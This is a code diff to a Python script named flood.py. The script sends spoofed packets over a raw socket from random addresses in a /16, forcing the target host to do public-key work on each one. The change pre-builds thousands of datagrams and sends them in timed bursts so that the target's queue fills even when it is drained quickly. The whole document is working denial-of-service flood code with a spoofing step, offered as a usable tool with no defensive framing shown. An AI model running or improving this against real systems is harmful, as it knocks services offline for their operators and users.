@@ -4,7 +4,9 @@
     flood.py TARGET PORT PUBLIC_KEY SOURCES COUNT RATE
 
 SOURCES is a /16 as "10.98": the sources are random addresses and ports in it. All else in the
-messages is random, so the target must do its public-key work to find out. COUNT bounds it.
+messages is random, so the target must do its public-key work to find out. COUNT bounds it. They
+come in bursts, 20 a second, drawn from a few thousand that are made beforehand: a queue that is
+emptied fast fills all the same.
 """
 
 import base64
@@ -15,6 +17,9 @@ import socket
 import struct
 import sys
 import time
+
+_MADE = 4096
+_BURSTS_A_SECOND = 20
 
 
 def initiation(public_key):
@@ -39,13 +44,17 @@ def main(target, port, public_key, sources, count, rate):
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     key = base64.b64decode(public_key)
     prefix = bytes(int(part) for part in sources.split("."))
+    made = [
+        _datagram(prefix + os.urandom(2), target, int(port), initiation(key)) for _ in range(_MADE)
+    ]
+    burst = max(1, int(rate) // _BURSTS_A_SECOND)
     begun = time.monotonic()
     print("flooding", flush=True)
-    for number in range(int(count)):
-        source = prefix + os.urandom(2)
-        raw.sendto(_datagram(source, target, int(port), initiation(key)), (target, 0))
-        ahead = number / float(rate) - (time.monotonic() - begun)
-        if ahead > 0.002:
+    for sent in range(0, int(count), burst):
+        for number in range(sent, min(sent + burst, int(count))):
+            raw.sendto(made[number % _MADE], (target, 0))
+        ahead = (sent + burst) / float(rate) - (time.monotonic() - begun)
+        if ahead > 0:
             time.sleep(ahead)
     print("done", flush=True)
 
